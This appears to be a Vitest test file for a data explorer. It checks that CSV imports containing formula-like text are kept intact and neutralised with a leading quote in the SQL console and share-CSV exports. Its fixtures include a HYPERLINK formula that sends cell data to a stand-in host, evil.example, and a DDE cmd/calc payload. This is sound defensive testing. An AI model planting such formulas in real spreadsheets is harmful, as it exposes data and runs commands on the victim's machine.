/**
 * An import whose notes, names and sources are spreadsheet formulas, followed through every way it
 * leaves the site as CSV: kept exactly as the file gave it (leading tab and CR included), then the
 * SQL console's export and the explorer's share CSV, each opened as text with no cell that a
 * spreadsheet would run.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { DuckDBConnection } from '@duckdb/duckdb-wasm/blocking';
import { figuresCsv } from '$lib/data/figuresCsv';
import { resultToCsv } from '$lib/db/console/resultToCsv';
import { runUserSql, type StreamingConnection } from '$lib/db/console/runUserSql';
import { importObservations } from '$lib/db/queries/importObservations';
import { insertImport, type ImportConnection } from '$lib/import/insertImport';
import { toArrowIpc } from '$lib/import/toArrowIpc';
import { DEFAULT_VIEW } from '$lib/state/viewState';
import { formulaCells } from '../../support/formulaCells';
import { startNodeEngine } from '../db/nodeEngine';
import { read, readOk } from './fixtures';
import Papa from 'papaparse';

const NOTES = ['=HYPERLINK("https://evil.example/?d="&A1,"Details")', '\t=1+1', '-1+1', 'note\n=second line'];
const SOURCES = ["@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '\r=3+3', 'Survey, "final"'];

let conn: DuckDBConnection;

beforeAll(async () => {
	conn = (await startNodeEngine()).connect();
	const { builder } = readOk(await read('hostile-notes.csv')).data;
	await insertImport(conn as unknown as ImportConnection, 'import_hostile_notes', toArrowIpc(builder.columns, builder.size));
}, 60_000);

describe('an import of formula-like text', () => {
	it('keeps every text cell as the file gave it, leading tab and carriage return included', async () => {
		const rows = conn.query('SELECT note, source, indicator_name FROM import_hostile_notes ORDER BY year').toArray().map((r) => r.toJSON());
		expect(rows.map((r) => r.note)).toEqual(NOTES);
		expect(rows.map((r) => r.source)).toEqual(SOURCES);
		expect(rows[1].indicator_name).toBe('\t=2+2');
	});

	it("leaves the SQL console's export with no cell a spreadsheet would run, and the text intact", async () => {
		const result = await runUserSql(conn as unknown as StreamingConnection, 'SELECT * FROM import_hostile_notes ORDER BY year');
		const csv = resultToCsv(result);
		expect(formulaCells(csv)).toEqual([]);
		const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
		expect(parsed).toHaveLength(4);
		expect(parsed.map((r) => r.note)).toEqual(NOTES.map((n) => (n.startsWith('note') ? n : `'${n}`)));
		expect(parsed.map((r) => r.source)).toEqual(SOURCES.map((s) => (s.startsWith('Survey') ? s : `'${s}`)));
	});

	it("leaves the explorer's share CSV (imported series beside published ones) with no cell a spreadsheet would run", async () => {
		const observations = await importObservations(conn as unknown as ImportConnection, 'import_hostile_notes', 'hiv_prevalence', DEFAULT_VIEW);
		expect(observations).toHaveLength(4);
		const csv = figuresCsv(observations, { indicatorById: new Map(), geoById: new Map([['KHM', { name: 'Cambodia' }]]), sourceById: new Map() });
		expect(formulaCells(csv)).toEqual([]);
		const notes = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data.map((r) => r.note);
		expect(notes).toEqual(NOTES.map((n) => (n.startsWith('note') ? n : `'${n}`)));
	});
});
